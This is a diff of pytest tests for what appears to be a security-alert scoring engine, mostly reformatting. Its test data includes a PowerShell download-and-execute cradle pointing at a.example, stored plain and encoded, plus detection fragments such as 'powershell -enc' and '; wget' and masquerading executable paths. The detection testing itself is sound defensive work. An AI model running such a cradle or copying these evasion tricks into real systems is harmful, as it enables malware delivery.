@@ -85,8 +85,8 @@ def test_a_command_of_an_attack_is_found(line, rule, least):
 @pytest.mark.parametrize("line", [
     "git commit -m 'fix: delete shadow of the button'", r"C:\Windows\System32\svchost.exe -k netsvcs -p",
     "curl -fsS https://example.org/health", "tar czf /backup/etc.tgz /etc", "reg query HKLM\\Software\\Acme",
-    "python -m pytest tests/unit", "net use Z: \\\\files\\share", "sc query wuauserv", "certutil -hashfile setup.exe SHA256",
-    "rundll32.exe shell32.dll,Control_RunDLL", "powershell Get-Process | Sort-Object CPU",
+    "python -m pytest tests/unit", "net use Z: \\\\files\\share", "sc query wuauserv",
+    "certutil -hashfile setup.exe SHA256", "rundll32.exe shell32.dll,Control_RunDLL", "powershell Get-Process | Sort-Object CPU",
 ])
 def test_an_honest_command_weighs_nothing(line):
     assert weights(see(make_alert(("process.command_line", line)))) == {}
@@ -97,7 +97,8 @@ def test_an_encoded_command_is_decoded_and_what_is_inside_weighs_more():
     cradle = encoded_command("IEX (New-Object Net.WebClient).DownloadString('http://a.example/p')")
     twice = encoded_command(cradle)
 
-    found = [weights(see(make_alert(("process.command_line", line))))["command.encoded"] for line in (plain, cradle, twice)]
+    views = [see(make_alert(("process.command_line", line))) for line in (plain, cradle, twice)]
+    found = [weights(view)["command.encoded"] for view in views]
 
     assert found == [5.0, 11.0, 11.0]
 
@@ -120,16 +121,17 @@ def test_a_tool_named_by_the_product_weighs_more_than_one_that_anybody_named():
 
 
 @pytest.mark.parametrize(("path", "rule"), [
-    (r"C:\Users\ada\Downloads\invoice.pdf.exe", "file.name"), (r"C:\Users\ada\AppData\Roaming\svchost.exe", "file.name"),
-    (r"C:\Windows\Temp\a.exe", "file.place"), ("/dev/shm/.x", "file.place"), (r"C:\share\readme_to_decrypt.txt", "file.name"),
+    (r"C:\Users\ada\Downloads\invoice.pdf.exe", "file.name"), (r"C:\Windows\Temp\a.exe", "file.place"),
+    (r"C:\Users\ada\AppData\Roaming\svchost.exe", "file.name"), ("/dev/shm/.x", "file.place"),
+    (r"C:\share\readme_to_decrypt.txt", "file.name"),
 ])
 def test_a_name_or_place_that_misleads_is_found(path, rule):
     assert rule in weights(see(make_alert(("file.path", path))))
 
 
 @pytest.mark.parametrize("path", [
-    r"C:\Windows\System32\svchost.exe", r"\Device\HarddiskVolume3\Windows\explorer.exe", r"C:\Program Files\Acme\acme.exe",
-    "/usr/bin/bash", r"C:\Windows\WinSxS\amd64_x\conhost.exe", "svchost.exe", "report.v2.pdf",
+    r"C:\Windows\System32\svchost.exe", r"\Device\HarddiskVolume3\Windows\explorer.exe",
+    r"C:\Program Files\Acme\acme.exe", "/usr/bin/bash", r"C:\Windows\WinSxS\amd64_x\conhost.exe", "svchost.exe", "report.v2.pdf",
 ])
 def test_an_honest_path_weighs_nothing(path):
     assert weights(see(make_alert(("process.executable", path)))) == {}
@@ -165,7 +167,9 @@ def test_a_listed_value_lowers_only_where_the_adversary_did_not_write_it():
 
 
 def test_a_sinkhole_raises_whoever_named_it():
-    view = see(make_alert(), found("warning_list", WRITABLE, category="sinkhole", value="evil.example", list="sinkholes"))
+    hit = found("warning_list", WRITABLE, category="sinkhole", value="evil.example", list="sinkholes")
+
+    view = see(make_alert(), hit)
 
     assert weights(view) == {"reputation.raises": 8.0}
 
@@ -214,8 +218,10 @@ def test_only_people_can_lower_by_classification(word, provenance, weight):
 
 
 def test_a_blocked_attack_stays_an_attack(judge):
-    allowed, blocked = (judge(see(make_alert(("event.action", action), title="ET MALWARE Emotet", severity=Severity.HIGH)))[0]
-                        for action in ("allowed", "blocked"))
+    alerts = (make_alert(("event.action", action), title="ET MALWARE Emotet", severity=Severity.HIGH)
+              for action in ("allowed", "blocked"))
+
+    allowed, blocked = (judge(see(alert))[0] for alert in alerts)
 
     assert allowed.score - blocked.score == 2.0
     assert blocked.label is MALICIOUS
@@ -244,7 +250,7 @@ SIGNS = {sign.what: sign for each in TABLES for sign in each.signs if "(?" not i
 
 
 @pytest.mark.parametrize("what", sorted(SIGNS))
-@settings(max_examples=15, suppress_health_check=list(HealthCheck), deadline=None)
+@settings(max_examples=8, suppress_health_check=list(HealthCheck), deadline=None)
 @given(data=st.data())
 def test_every_text_that_a_sign_matches_holds_one_of_its_needles(what, data):
     sign = SIGNS[what]
@@ -255,7 +261,8 @@ def test_every_text_that_a_sign_matches_holds_one_of_its_needles(what, data):
         assert any(needle in text for needle in sign.needles), text
 
 
-@pytest.mark.parametrize("unit", ["'+'", "powershell -enc ", "iex ", "../", "a^", "; wget ", "[char](65)+", " " * 9, "\\temp", "union "])
+@pytest.mark.parametrize("unit", [
+    "'+'", "powershell -enc ", "iex ", "../", "a^", "; wget ", "[char](65)+", " " * 9, "\\temp", "union "])
 def test_hostile_repetition_does_not_slow_the_rules_down(unit):
     text = (unit * 8192)[:8192]
     view = see(make_alert(("process.command_line", text), ("url.full", text), ("file.path", text)))
